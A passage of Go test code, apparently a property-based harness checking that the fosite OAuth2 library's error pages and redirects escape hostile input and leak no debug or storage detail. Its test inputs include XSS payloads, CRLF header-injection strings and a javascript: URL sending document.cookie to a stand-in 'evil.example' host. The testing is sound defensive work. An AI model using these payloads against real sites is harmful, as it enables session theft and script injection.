	_, seen := st.hashes[hv]
	if !seen && len(st.hashes) < maxHashes {
		st.hashes[hv] = struct{}{}
	} else if !seen {
		st.s.HashesCut = true
	}
	if sample == nil || seen {
		return
	}
	take := false
	if len(st.s.Samples) < maxSamples/2 {
		take = true
	} else if hv%257 == 0 && len(st.s.Samples) < maxSamples {
		take = true
	}
	if take {
		b, err := json.Marshal(sample())
		if err == nil {
			st.s.Samples = append(st.s.Samples, b)
		}
	}
}

// CaseN adds n evaluations of which k are distinct non-trivial cases that are
// identified by the digests given (used by exhaustive enumerations that would
// be too slow to route through Case one by one).
func CaseN(n int) {
	st.mu.Lock()
	st.s.Evaluations += n
	st.mu.Unlock()
}

func Label(l string) {
	st.mu.Lock()
	st.s.Labels[l]++
	st.mu.Unlock()
}

func LabelN(l string, n int) {
	st.mu.Lock()
	st.s.Labels[l] += n
	st.mu.Unlock()
}

func Note(format string, a ...any) {
	st.mu.Lock()
	if len(st.s.Notes) < 40 {
		st.s.Notes = append(st.s.Notes, fmt.Sprintf(format, a...))
	}
	st.mu.Unlock()
}

func SetExhaustive(part string, v bool) {
	st.mu.Lock()
	st.s.Exhaustive[part] = v
	st.mu.Unlock()
}

// ExcludedCase counts a case (or an assertion) that was skipped by
// construction because it would re-trigger a listed known finding.
func ExcludedCase(fp string) {
	st.mu.Lock()
	st.s.Excluded[fp]++
	st.mu.Unlock()
}

func recordViolation(fp, msg string) {
	st.mu.Lock()
	defer st.mu.Unlock()
	for i := range st.s.Violations {
		if st.s.Violations[i].Fingerprint == fp {
			st.s.Violations[i].Message = msg // keep the latest (shrunk) one
			return
		}
	}
	if len(st.s.Violations) < 50 {
		st.s.Violations = append(st.s.Violations, ViolationRec{fp, msg})
	}
}

func recordKnownHit(fp string) {
	st.mu.Lock()
	st.s.KnownHits[fp]++
	st.mu.Unlock()
}

// MarkCompleted is called by a property's test when it ran to its end
// (requested number of cases) without the framework cutting it short.
func MarkCompleted() {
	st.mu.Lock()
	st.s.Completed = true
	st.mu.Unlock()
}

// FlushStats writes the shard file. Called from TestMain.
func FlushStats() {
	p := os.Getenv("VERIF_STATS")
	if p == "" {
		return
	}
	st.mu.Lock()
	defer st.mu.Unlock()
	st.s.Hashes = st.s.Hashes[:0]
	for k := range st.hashes {
		st.s.Hashes = append(st.s.Hashes, k)
	}
	sort.Slice(st.s.Hashes, func(i, j int) bool { return st.s.Hashes[i] < st.s.Hashes[j] })
	st.s.KnownActive = knownActiveList()
	b, err := json.Marshal(&st.s)
	if err != nil {
		fmt.Fprintln(os.Stderr, "stats:", err)
		return
	}
	os.MkdirAll(filepath.Dir(p), 0o755)
	tmp := p + ".tmp" + strconv.Itoa(os.Getpid())
	if err := os.WriteFile(tmp, b, 0o644); err == nil {
		os.Rename(tmp, p)
	}
}
