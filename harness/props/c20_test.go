package props

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/go-jose/go-jose/v3"
	"github.com/ory/fosite"
	"pgregory.net/rapid"

	"verifharness/h"
)

// C20 — responses leak nothing and storage never sees a secret.

var c20Errors = map[string]*fosite.RFC6749Error{
	"ErrInvalidRequest": fosite.ErrInvalidRequest, "ErrUnauthorizedClient": fosite.ErrUnauthorizedClient, "ErrAccessDenied": fosite.ErrAccessDenied,
	"ErrUnsupportedResponseType": fosite.ErrUnsupportedResponseType, "ErrUnsupportedResponseMode": fosite.ErrUnsupportedResponseMode, "ErrInvalidScope": fosite.ErrInvalidScope,
	"ErrServerError": fosite.ErrServerError, "ErrTemporarilyUnavailable": fosite.ErrTemporarilyUnavailable, "ErrUnsupportedGrantType": fosite.ErrUnsupportedGrantType,
	"ErrInvalidGrant": fosite.ErrInvalidGrant, "ErrInvalidClient": fosite.ErrInvalidClient, "ErrInvalidState": fosite.ErrInvalidState, "ErrMisconfiguration": fosite.ErrMisconfiguration,
	"ErrInsufficientEntropy": fosite.ErrInsufficientEntropy, "ErrNotFound": fosite.ErrNotFound, "ErrRequestForbidden": fosite.ErrRequestForbidden, "ErrRequestUnauthorized": fosite.ErrRequestUnauthorized,
	"ErrTokenSignatureMismatch": fosite.ErrTokenSignatureMismatch, "ErrInvalidTokenFormat": fosite.ErrInvalidTokenFormat, "ErrTokenExpired": fosite.ErrTokenExpired, "ErrScopeNotGranted": fosite.ErrScopeNotGranted,
	"ErrTokenClaim": fosite.ErrTokenClaim, "ErrInactiveToken": fosite.ErrInactiveToken, "ErrLoginRequired": fosite.ErrLoginRequired, "ErrInteractionRequired": fosite.ErrInteractionRequired,
	"ErrConsentRequired": fosite.ErrConsentRequired, "ErrRequestNotSupported": fosite.ErrRequestNotSupported, "ErrRequestURINotSupported": fosite.ErrRequestURINotSupported,
	"ErrRegistrationNotSupported": fosite.ErrRegistrationNotSupported, "ErrInvalidRequestURI": fosite.ErrInvalidRequestURI, "ErrInvalidRequestObject": fosite.ErrInvalidRequestObject,
	"ErrJTIKnown": fosite.ErrJTIKnown, "ErrAuthorizationPending": fosite.ErrAuthorizationPending, "ErrSlowDown": fosite.ErrSlowDown, "ErrDeviceExpiredToken": fosite.ErrDeviceExpiredToken,
	"ErrSerializationFailure": fosite.ErrSerializationFailure, "ErrUnknownRequest": fosite.ErrUnknownRequest,
}

var c20Pieces = []string{"plain text", "\"double\"", "'single'", "<script>alert(1)</script>", "</form><form action=\"https://evil.example\">", "a&b=c", "100% #frag?x", "line1\r\nSet-Cookie: x=1", "tab\there", "nul\x00byte", "bad-utf8-\xff\xfe", "émoji-✓-日本", "\\backslash\\", "{\"json\":true}", "%0d%0aInjected: 1", "&quot;&lt;", " sep", "'\"><img src=x onerror=1>"}

func hostileGen(label string) *rapid.Generator[string] {
	return rapid.Custom(func(t *rapid.T) string {
		n := rapid.IntRange(0, 3).Draw(t, label+"-n")
		var p []string
		for i := 0; i < n; i++ {
			p = append(p, rapid.SampledFrom(c20Pieces).Draw(t, label))
		}
		return strings.Join(p, " ")
	})
}

func normHTML(s string) string {
	s = perByteValid(s)
	s = strings.ReplaceAll(s, "\x00", "�")
	s = strings.ReplaceAll(s, "\r\n", "\n")
	s = strings.ReplaceAll(s, "\r", "\n")
	return s
}

func TestC20_ErrorWriters(t *testing.T) {
	h.SetProperty("C20")
	selfTest(t)
	var names []string
	for n := range c20Errors {
		names = append(names, n)
	}
	sortStrings(names)
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		legacy := rapid.Bool().Draw(rt, "legacyFormat")
		expose := rapid.Bool().Draw(rt, "exposeDebug")
		w := h.NewWorld(h.Spec{RefreshScopes: []string{}, Mutate: func(c *fosite.Config) {
			c.UseLegacyErrorFormat = legacy
			c.SendDebugMessagesToClients = expose
		}})
		cl := stdClient("c20", false)
		cl.Secret = w.HashSecret("s20")
		cl.ResponseModes = []fosite.ResponseModeType{fosite.ResponseModeQuery, fosite.ResponseModeFragment, fosite.ResponseModeFormPost}
		w.AddClient(cl, "s20")

		name := rapid.SampledFrom(append(names, "plain-go-error")).Draw(rt, "error")
		canary := "CANARY-" + rapid.StringMatching("[a-z]{10}").Draw(rt, "canary")
		causeCanary := "CAUSE-" + rapid.StringMatching("[a-z]{10}").Draw(rt, "cause")
		hint := hostileGen("hint").Draw(rt, "hint")
		debug := hostileGen("debug").Draw(rt, "debugText")
		desc := ""
		customDesc := rapid.IntRange(0, 3).Draw(rt, "customDescription") == 0
		var err error
		var base *fosite.RFC6749Error
		if name == "plain-go-error" {
			err = errors.New("internal failure " + canary + " " + debug)
			base = fosite.ErrorToRFC6749Error(err)
			hint = ""
			debug = base.DebugField
			desc = base.DescriptionField
		} else {
			e := c20Errors[name]
			if customDesc {
				e = e.WithDescription(hostileGen("desc").Draw(rt, "description"))
			}
			if hint != "" {
				e = e.WithHint(hint)
			} else {
				hint = e.HintField
			}
			debug = debug + " " + canary
			e = e.WithDebug(debug).WithWrap(errors.New(causeCanary))
			err = e
			base = e
			desc = e.DescriptionField
		}
		wantName, wantCode := base.ErrorField, base.CodeField
		// what the documentation says the (new-format) description is
		newDesc := desc
		if hint != "" {
			newDesc += " " + hint
		}
		if expose && debug != "" {
			newDesc += " " + debug
		}
		newDesc = strings.ReplaceAll(newDesc, "\"", "'")

		writer := rapid.SampledFrom([]string{"access", "par", "authorize-json", "authorize-query", "authorize-fragment", "authorize-form_post", "introspection", "revocation"}).Draw(rt, "writer")
		state := rapid.SampledFrom([]string{"state-0123456789", "st&ate=x#y %+é-0123", "<b>state</b>\"'-0123"}).Draw(rt, "state")
		rw := httptest.NewRecorder()
		ctx := context.Background()
		var ar fosite.AuthorizeRequester
		target := redirectURI
		switch writer {
		case "access":
			w.P.WriteAccessError(ctx, rw, nil, err)
		case "par":
			w.P.WritePushedAuthorizeError(ctx, rw, fosite.NewAuthorizeRequest(), err)
		case "authorize-json":
			r := httptest.NewRequest("GET", "https://as.example/oauth2/auth?client_id=c20&response_type=code&redirect_uri=https%3A%2F%2Fevil.example%2Fcb&state=state-0123456789", nil)
			ar, _ = w.P.NewAuthorizeRequest(ctx, r)
			w.P.WriteAuthorizeError(ctx, rw, ar, err)
		case "authorize-query", "authorize-fragment", "authorize-form_post":
			mode := strings.TrimPrefix(writer, "authorize-")
			if mode == "form_post" && rapid.IntRange(0, 2).Draw(rt, "oddRegisteredTarget") == 0 {
				// the registered redirect URI is the client's choice (self-service registration): the page that posts to
				// it is a document on the server's origin, whatever was registered
				target = rapid.SampledFrom([]string{"javascript:alert(document.domain)//", "JavaScript:fetch('https://evil.example/'+document.cookie)//", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)//", "https://rp.example/cb?x=\"><script>alert(1)</script>", "com.example.app:/cb"}).Draw(rt, "registeredTarget")
				cl.RedirectURIs = []string{target}
				h.Label("form_post-to-odd-registered-target")
			}
			q := url.Values{"client_id": {"c20"}, "response_type": {"code"}, "redirect_uri": {target}, "state": {state}, "response_mode": {mode}, "scope": {"a"}}
			r := httptest.NewRequest("GET", "https://as.example/oauth2/auth?"+q.Encode(), nil)
			var aerr error
			ar, aerr = w.P.NewAuthorizeRequest(ctx, r)
			if aerr != nil && target != redirectURI {
				// the library may of course refuse such a registration's requests outright
				rt.Logf("request for the registered target %q refused: %v", target, aerr)
				return
			}
			if aerr != nil {
				rt.Fatalf("VERIF-INFRA: valid authorize request refused: %v", aerr)
			}
			w.P.WriteAuthorizeError(ctx, rw, ar, err)
		case "introspection":
			w.P.WriteIntrospectionError(ctx, rw, err)
		case "revocation":
			w.P.WriteRevocationResponse(ctx, rw, err)
		}
		body := rw.Body.String()
		desc1 := fmt.Sprintf("writer=%s error=%s legacy=%v exposeDebug=%v hint=%q debug=%q -> status=%d headers=%v body=%q", writer, name, legacy, expose, hint, debug, rw.Code, rw.Header(), body)
		rt.Logf("%s", desc1)
		needsEscaping := strings.ContainsAny(hint+debug+desc+state, "\"<>&\r\n\x00%#") || !utf8.ValidString(hint+debug)
		h.Case(fmt.Sprintf("C20/A/%s/%s/%v/%v/%q/%q/%v", writer, name, legacy, expose, hint, debug, customDesc), needsEscaping, func() any {
			return map[string]any{"part": "A", "writer": writer, "error": name, "legacy_format": legacy, "expose_debug": expose, "hint": hint, "debug": debug, "status": rw.Code, "body": body, "location": rw.Header().Get("Location")}
		})
		h.Label("writer=" + writer)
		fail := func(fp, f string, a ...any) { h.Violate(rt, fp, "%s\n%s", fmt.Sprintf(f, a...), desc1) }
		// no-store / no-cache on everything
		if rw.Header().Get("Cache-Control") != "no-store" || rw.Header().Get("Pragma") != "no-cache" {
			fail("C20/cache-headers/"+writer, "response without Cache-Control: no-store / Pragma: no-cache")
		}
		// header injection
		for k, vs := range rw.Header() {
			for _, v := range vs {
				if strings.ContainsAny(v, "\r\n") {
					fail("C20/header-injection", "header %s contains a line break: %q", k, v)
				}
			}
			if k == "Set-Cookie" || k == "Injected" {
				fail("C20/header-injection", "injected header %s", k)
			}
		}
		// the wrapped cause never leaks; the debug canary only when exposure is enabled
		all := body + rw.Header().Get("Location")
		if u, e := url.QueryUnescape(all); e == nil {
			all += u
		}
		if strings.Contains(all, causeCanary) && name != "plain-go-error" {
			fail("C20/cause-leaked", "the wrapped cause appears in the response")
		}
		hasCanary := strings.Contains(all, canary)
		if hasCanary && !expose {
			fail("C20/debug-leaked", "internal debug detail appears in the response although debug exposure is off")
		}
		checkJSON := func(wantStatus int) map[string]interface{} {
			var m map[string]interface{}
			if e := json.Unmarshal(rw.Body.Bytes(), &m); e != nil {
				fail("C20/malformed-json", "body is not JSON: %v", e)
				return nil
			}
			if rw.Code != wantStatus {
				fail("C20/status-mismatch", "HTTP status %d, error code %d", rw.Code, wantStatus)
			}
			if !strings.HasPrefix(rw.Header().Get("Content-Type"), "application/json") {
				fail("C20/content-type", "JSON body with Content-Type %q", rw.Header().Get("Content-Type"))
			}
			return m
		}
		checkFields := func(get func(string) string, n func(string) string) {
			if get("error") != wantName {
				fail("C20/error-code-mismatch", "error=%q, want %q", get("error"), wantName)
			}
			if legacy {
				if get("error_description") != n(desc) {
					fail("C20/description-mangled", "legacy error_description=%q, want %q", get("error_description"), n(desc))
				}
				if get("error_hint") != n(hint) {
					fail("C20/description-mangled", "error_hint=%q, want %q", get("error_hint"), n(hint))
				}
				if expose {
					if get("error_debug") != n(debug) {
						fail("C20/debug-not-exposed", "error_debug=%q, want %q", get("error_debug"), n(debug))
					}
				} else if get("error_debug") != "" {
					fail("C20/debug-leaked", "error_debug=%q although exposure is off", get("error_debug"))
				}
			} else if get("error_description") != n(newDesc) {
				fail("C20/description-mangled", "error_description=%q, want %q", get("error_description"), n(newDesc))
			}
		}
		jsonGetter := func(m map[string]interface{}) func(string) string {
			return func(k string) string {
				s, _ := m[k].(string)
				return s
			}
		}
		switch writer {
		case "access", "par", "authorize-json":
			if m := checkJSON(wantCode); m != nil {
				g := jsonGetter(m)
				// JSON encoding replaces invalid UTF-8 with U+FFFD
				checkFields(func(k string) string { return g(k) }, perByteValid)
				_ = g
			}
		case "authorize-query", "authorize-fragment":
			loc := rw.Header().Get("Location")
			if loc == "" || rw.Code != http.StatusSeeOther {
				fail("C20/no-redirect", "redirectable error was not redirected (status %d)", rw.Code)
				break
			}
			if !strings.HasPrefix(loc, redirectURI) {
				fail("C20/redirect-target", "Location %q does not start with the registered redirect URI", loc)
			}
			raw := ""
			if writer == "authorize-fragment" {
				if i := strings.IndexByte(loc, '#'); i >= 0 {
					raw = loc[i+1:]
				}
				if strings.Contains(loc[:strings.IndexByte(loc+"#", '#')], "error=") {
					fail("C20/error-in-wrong-part", "fragment-mode error parameters in the query")
				}
			} else if i := strings.IndexByte(loc, '?'); i >= 0 {
				raw = loc[i+1:]
				if strings.Contains(raw, "#") {
					fail("C20/unencoded-reflection", "raw '#' inside the query part: %q", loc)
				}
			}
			v, e := url.ParseQuery(raw)
			if e != nil {
				fail("C20/unencoded-reflection", "response parameters do not parse: %v", e)
				break
			}
			checkFields(v.Get, func(s string) string { return s })
			if v.Get("state") != state {
				fail("C20/state-mangled", "state=%q, want %q", v.Get("state"), state)
			}
			for k := range v {
				switch k {
				case "error", "error_description", "error_hint", "error_debug", "state":
				default:
					fail("C20/parameter-injection", "unexpected response parameter %q", k)
				}
			}
		case "authorize-form_post":
			if target != redirectURI && strings.HasPrefix(rw.Header().Get("Content-Type"), "application/json") {
				// the library does not consider the target usable and shows the error to the user agent directly
				h.Label("odd-registered-target-answered-directly")
				break
			}
			counts := h.CountHTMLElements(rw.Body.Bytes())
			action, vals := h.ParseFormPost(rw.Body.Bytes())
			if counts["form"] != 1 || counts["script"] != 0 || counts["img"] != 0 || counts["b"] != 0 {
				fail("C20/html-injection", "reflected text created markup: element counts %v", counts)
			}
			if target == redirectURI && action != redirectURI {
				fail("C20/html-injection", "form action %q, want %q", action, redirectURI)
			}
			if target != redirectURI {
				// whatever the page does with such a target, it does not hand it to the browser as a script or document
				a := strings.ToLower(strings.TrimLeft(action, " \t\r\n\x00"))
				for _, sch := range []string{"javascript:", "data:", "vbscript:"} {
					if strings.HasPrefix(a, sch) {
						fail("C20/form-action-is-script-url", "the form_post page posts to %q (registered target %q)", action, target)
					}
				}
				if strings.HasPrefix(target, "https://") && !strings.HasPrefix(action, "https://rp.example/cb?x=") {
					fail("C20/html-injection", "form action %q, want an encoding of %q", action, target)
				}
			}
			checkFields(func(k string) string { return normHTML(vals.Get(k)) }, normHTML)
			if normHTML(vals.Get("state")) != normHTML(state) {
				fail("C20/state-mangled", "state=%q, want %q", vals.Get("state"), state)
			}
			if !strings.HasPrefix(rw.Header().Get("Content-Type"), "text/html") {
				fail("C20/content-type", "form_post page with Content-Type %q", rw.Header().Get("Content-Type"))
			}
		case "introspection":
			var m map[string]interface{}
			if e := json.Unmarshal(rw.Body.Bytes(), &m); e != nil {
				fail("C20/malformed-json", "introspection error body is not JSON: %v", e)
			} else if a, ok := m["active"]; ok && a != false {
				fail("C20/introspection-error-active", "introspection error answered active=%v", a)
			}
		case "revocation":
			switch wantName {
			case "invalid_request", "invalid_client":
				if wantCode == 400 || wantCode == 401 {
					if rw.Code != wantCode {
						fail("C20/status-mismatch", "revocation error %s answered HTTP %d", wantName, rw.Code)
					}
					var m map[string]interface{}
					if e := json.Unmarshal(rw.Body.Bytes(), &m); e != nil || m["error"] != wantName {
						fail("C20/malformed-json", "revocation error body %q", body)
					}
				}
			}
		}
	})
	h.MarkCompleted()
}

// ---------------------------------------------------------------------------
// Success responses carry the cache headers too.

func TestC20_SuccessHeaders(t *testing.T) {
	h.SetProperty("C20")
	selfTest(t)
	h.ClockReset()
	w := h.NewWorld(h.Spec{RefreshScopes: []string{}})
	cl := stdClient("A", false)
	cl.Secret = w.HashSecret("sA")
	cl.ResponseModes = []fosite.ResponseModeType{fosite.ResponseModeQuery, fosite.ResponseModeFragment, fosite.ResponseModeFormPost}
	w.AddClient(cl, "sA")
	w.AddUser("peter", "pw")
	check := func(what string, hd http.Header) {
		h.Case("C20/success/"+what, true, func() any { return map[string]any{"part": "A-success", "response": what, "headers": hd} })
		if hd.Get("Cache-Control") != "no-store" || hd.Get("Pragma") != "no-cache" {
			h.Violate(t, "C20/cache-headers/"+what, "%s response without Cache-Control: no-store / Pragma: no-cache: %v", what, hd)
		}
	}
	tr := w.Token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}, "scope": {"offline a"}}, w.BasicFor("A"), h.TokenOpts{Session: h.NewSess("")})
	check("token", tr.Header)
	for _, mode := range []string{"query", "fragment", "form_post"} {
		for _, rtype := range []string{"code", "token", "code id_token token"} {
			if mode == "query" && rtype != "code" {
				continue
			}
			ar := w.Authorize(url.Values{"client_id": {"A"}, "response_type": {rtype}, "state": {"state-0123456789"}, "nonce": {"nonce-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"openid a"}, "response_mode": {mode}}, h.Consent{})
			if !ar.Err.OK() {
				t.Fatalf("VERIF-INFRA: authorize %s/%s: %v", rtype, mode, ar.Err)
			}
			check("authorize-"+mode+"-"+strings.ReplaceAll(rtype, " ", "+"), ar.Header)
		}
	}
	// an integrator's own authorize handler may add headers to the responder; whatever it adds, the response that
	// carries the code / tokens stays uncacheable
	for _, mode := range []fosite.ResponseModeType{fosite.ResponseModeDefault, fosite.ResponseModeQuery, fosite.ResponseModeFragment, fosite.ResponseModeFormPost} {
		for _, hdr := range [][2]string{{"Cache-Control", "public, max-age=300"}, {"Pragma", "cache"}, {"cache-control", "private"}, {"X-Custom", "1"}} {
			ru, _ := url.Parse(redirectURI)
			areq := fosite.NewAuthorizeRequest()
			areq.RedirectURI = ru
			areq.ResponseMode = mode
			areq.State = "state-0123456789"
			aresp := fosite.NewAuthorizeResponse()
			aresp.AddParameter("code", "some-code")
			aresp.AddHeader(hdr[0], hdr[1])
			rw := httptest.NewRecorder()
			w.P.WriteAuthorizeResponse(context.Background(), rw, areq, aresp)
			check(fmt.Sprintf("authorize-writer-%s-with-handler-header-%s", map[fosite.ResponseModeType]string{fosite.ResponseModeDefault: "default"}[mode]+string(mode), strings.ToLower(hdr[0])), rw.Header())
		}
	}
	// an operator's response-mode extension renders the payload in its own way; the documented contract is that
	// the no-store / no-cache headers are already set when it is called (success and error alike)
	{
		ext := &c20ModeExt{}
		w2 := h.NewWorld(h.Spec{RefreshScopes: []string{}, Mutate: func(c *fosite.Config) { c.ResponseModeHandlerExtension = ext }})
		for _, kind := range []string{"response", "error"} {
			ru, _ := url.Parse(redirectURI)
			areq := fosite.NewAuthorizeRequest()
			areq.RedirectURI = ru
			areq.ResponseMode = fosite.ResponseModeType("jwt")
			areq.State = "state-0123456789"
			rw := httptest.NewRecorder()
			if kind == "response" {
				aresp := fosite.NewAuthorizeResponse()
				aresp.AddParameter("code", "some-code")
				w2.P.WriteAuthorizeResponse(context.Background(), rw, areq, aresp)
			} else {
				w2.P.WriteAuthorizeError(context.Background(), rw, areq, fosite.ErrInvalidScope.WithHint("scope not allowed"))
			}
			if ext.calls == 0 {
				t.Fatalf("VERIF-INFRA: the response-mode extension was not called for the %s", kind)
			}
			check("authorize-"+kind+"-through-response-mode-extension", rw.Header())
		}
	}
	check("introspection", w.IntrospectEndpoint(url.Values{"token": {tr.Access}}, w.BasicFor("A")).Header)
	check("introspection-inactive", w.IntrospectEndpoint(url.Values{"token": {"nope"}}, w.BasicFor("A")).Header)
	check("par", w.PAR(url.Values{"client_id": {"A"}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}}, w.BasicFor("A")).Header)
	check("device", w.DeviceAuth(url.Values{"client_id": {"A"}, "scope": {"a"}}, w.BasicFor("A"), h.Consent{}).Header)
	check("revocation", w.Revoke(url.Values{"token": {tr.Access}}, w.BasicFor("A")).Header)
	check("token-error", w.Token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"wrong"}}, w.BasicFor("A"), h.TokenOpts{}).Header)
	check("device-error", w.DeviceAuth(url.Values{"client_id": {"A"}, "scope": {"nope"}}, w.BasicFor("A"), h.Consent{}).Header)
	h.MarkCompleted()
}

// c20ModeExt is an operator's response-mode extension ("jwt") that only renders the payload.
type c20ModeExt struct{ calls int }

func (e *c20ModeExt) ResponseModes() fosite.ResponseModeTypes {
	return fosite.ResponseModeTypes{fosite.ResponseModeType("jwt")}
}
func (e *c20ModeExt) WriteAuthorizeResponse(_ context.Context, rw http.ResponseWriter, ar fosite.AuthorizeRequester, resp fosite.AuthorizeResponder) {
	e.calls++
	rw.Header().Set("Location", ar.GetRedirectURI().String()+"?response=payload")
	rw.WriteHeader(http.StatusSeeOther)
}
func (e *c20ModeExt) WriteAuthorizeError(_ context.Context, rw http.ResponseWriter, ar fosite.AuthorizeRequester, err error) {
	e.calls++
	rw.Header().Set("Location", ar.GetRedirectURI().String()+"?response=error-payload")
	rw.WriteHeader(http.StatusSeeOther)
}

// ---------------------------------------------------------------------------
// Part A3: what a failing storage call says stays internal. A storage error text (host names, users, SQL) is
// internal debug detail wherever the handler puts it: with exposure off it must not reach any response.

func TestC20_StorageErrorsStayInternal(t *testing.T) {
	h.SetProperty("C20")
	selfTest(t)
	methods := []string{"GetClient", "GetAuthorizeCodeSession", "InvalidateAuthorizeCodeSession", "CreateAuthorizeCodeSession", "CreateAccessTokenSession", "GetAccessTokenSession", "DeleteAccessTokenSession",
		"CreateRefreshTokenSession", "GetRefreshTokenSession", "DeleteRefreshTokenSession", "RotateRefreshToken", "RevokeRefreshToken", "RevokeAccessToken",
		"CreateOpenIDConnectSession", "GetOpenIDConnectSession", "DeleteOpenIDConnectSession", "CreatePKCERequestSession", "GetPKCERequestSession", "DeletePKCERequestSession",
		"CreateDeviceAuthSession", "GetDeviceCodeSession", "InvalidateDeviceCodeSession", "CreatePARSession", "GetPARSession", "DeletePARSession", "Authenticate", "BeginTX", "Commit", "Rollback"}
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		expose := rapid.IntRange(0, 3).Draw(rt, "exposeDebug") == 0
		legacy := rapid.Bool().Draw(rt, "legacyFormat")
		store := rapid.SampledFrom([]string{"mem", "tx"}).Draw(rt, "store")
		w := h.NewWorld(h.Spec{Store: store, RefreshScopes: []string{}, Mutate: func(c *fosite.Config) {
			c.SendDebugMessagesToClients = expose
			c.UseLegacyErrorFormat = legacy
			// the library's own JWKS fetcher over the in-process transport
			c.JWKSFetcherStrategy = fosite.NewDefaultJWKSFetcherStrategy(fosite.JWKSFetcherWithHTTPClient(c.HTTPClient))
		}})
		cl := stdClient("A", false)
		cl.Secret = w.HashSecret("sA")
		cl.RequestURIs = []string{"https://rp.example/request.jwt"}
		cl.JSONWebKeys = &jose.JSONWebKeySet{Keys: []jose.JSONWebKey{h.PublicJWK(h.RSAKey(1), "kid-1", "RS256")}}
		w.AddClient(cl, "sA")
		w.AddUser("peter", "pw")
		auth := w.BasicFor("A")
		canary := "CANARY" + rapid.StringMatching("[a-z]{10}").Draw(rt, "canary")
		// what a failing outbound fetch says (internal addresses, proxies) is internal detail as well
		fetchErr := errors.New("proxyconnect tcp: dial tcp 10.9.8.7:3128: connect: connection refused " + canary)
		w.DocErr = map[string]error{}
		jc := &fosite.DefaultOpenIDConnectClient{DefaultClient: &fosite.DefaultClient{ID: "J", GrantTypes: []string{"client_credentials"}, Scopes: []string{"a"}},
			TokenEndpointAuthMethod: "private_key_jwt", TokenEndpointAuthSigningAlgorithm: "RS256", JSONWebKeysURI: "https://rp.example/jwks/J"}
		w.AddClient(jc, "")
		failing := rapid.SampledFrom(methods).Draw(rt, "failingMethod")
		storageErr := errors.New("pq: dial tcp 10.1.2.3:5432 connect refused user=fosite_rw " + canary)
		scenario := rapid.SampledFrom([]string{"redeem", "replay-code", "refresh", "replay-refresh", "revoke", "introspect", "device-poll", "device-replay", "par-push", "par-use", "authorize-code", "authorize-hybrid", "password", "client_credentials", "request_uri-fetch-fails", "jwks_uri-fetch-fails"}).Draw(rt, "scenario")
		verifier := "c20-verifier-" + strings.Repeat("v", 40)
		authz := func(rtype string) *h.AuthzResult {
			return w.Authorize(url.Values{"client_id": {"A"}, "response_type": {rtype}, "state": {"state-0123456789"}, "nonce": {"nonce-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"openid offline a"}, "code_challenge": {h.PKCES256(verifier)}, "code_challenge_method": {"S256"}}, h.Consent{})
		}
		redeem := func(code string) *h.TokenResult {
			return w.Token(url.Values{"grant_type": {"authorization_code"}, "code": {code}, "redirect_uri": {redirectURI}, "code_verifier": {verifier}}, auth, h.TokenOpts{})
		}
		// fault-free preparation, then the observed request with the chosen storage method failing
		var final func() (string, []byte, http.Header, string)
		tokenOut := func(tr *h.TokenResult) (string, []byte, http.Header, string) {
			return tr.Err.String(), tr.Body, tr.Header, ""
		}
		authzOut := func(ar *h.AuthzResult) (string, []byte, http.Header, string) {
			return ar.Err.String(), ar.Body, ar.Header, ar.Location
		}
		switch scenario {
		case "redeem":
			code := authz("code").Code
			final = func() (string, []byte, http.Header, string) { return tokenOut(redeem(code)) }
		case "replay-code":
			code := authz("code").Code
			redeem(code)
			final = func() (string, []byte, http.Header, string) { return tokenOut(redeem(code)) }
		case "refresh", "replay-refresh":
			tr := redeem(authz("code").Code)
			rtok := tr.Refresh
			if scenario == "replay-refresh" {
				w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {rtok}}, auth, h.TokenOpts{})
			}
			final = func() (string, []byte, http.Header, string) {
				return tokenOut(w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {rtok}}, auth, h.TokenOpts{}))
			}
		case "revoke":
			tr := redeem(authz("code").Code)
			final = func() (string, []byte, http.Header, string) {
				r := w.Revoke(url.Values{"token": {tr.Refresh}}, auth)
				return r.Err.String(), r.Body, r.Header, ""
			}
		case "introspect":
			tr := redeem(authz("code").Code)
			final = func() (string, []byte, http.Header, string) {
				r := w.IntrospectEndpoint(url.Values{"token": {tr.Access}}, auth)
				return r.Err.String(), r.Body, r.Header, ""
			}
		case "device-poll", "device-replay":
			dr := w.DeviceAuth(url.Values{"client_id": {"A"}, "scope": {"openid offline a"}}, auth, h.Consent{})
			w.DeviceDecide(dr.UserCode, true, h.Consent{Session: h.NewSess("user-1")}, dr.DeviceCode)
			poll := func() *h.TokenResult {
				return w.Token(url.Values{"grant_type": {deviceGrant}, "device_code": {dr.DeviceCode}}, auth, h.TokenOpts{})
			}
			if scenario == "device-replay" {
				poll()
			}
			final = func() (string, []byte, http.Header, string) { return tokenOut(poll()) }
		case "par-push":
			final = func() (string, []byte, http.Header, string) {
				r := w.PAR(url.Values{"client_id": {"A"}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"a"}}, auth)
				return r.Err.String(), r.Body, r.Header, ""
			}
		case "par-use":
			pr := w.PAR(url.Values{"client_id": {"A"}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"a"}}, auth)
			final = func() (string, []byte, http.Header, string) {
				return authzOut(w.Authorize(url.Values{"client_id": {"A"}, "request_uri": {pr.RequestURI}}, h.Consent{}))
			}
		case "authorize-code":
			final = func() (string, []byte, http.Header, string) { return authzOut(authz("code")) }
		case "authorize-hybrid":
			final = func() (string, []byte, http.Header, string) { return authzOut(authz("code id_token token")) }
		case "password":
			final = func() (string, []byte, http.Header, string) {
				return tokenOut(w.Token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}, "scope": {"offline a"}}, auth, h.TokenOpts{Session: h.NewSess("")}))
			}
		case "request_uri-fetch-fails":
			w.DocErr["https://rp.example/request.jwt"] = fetchErr
			final = func() (string, []byte, http.Header, string) {
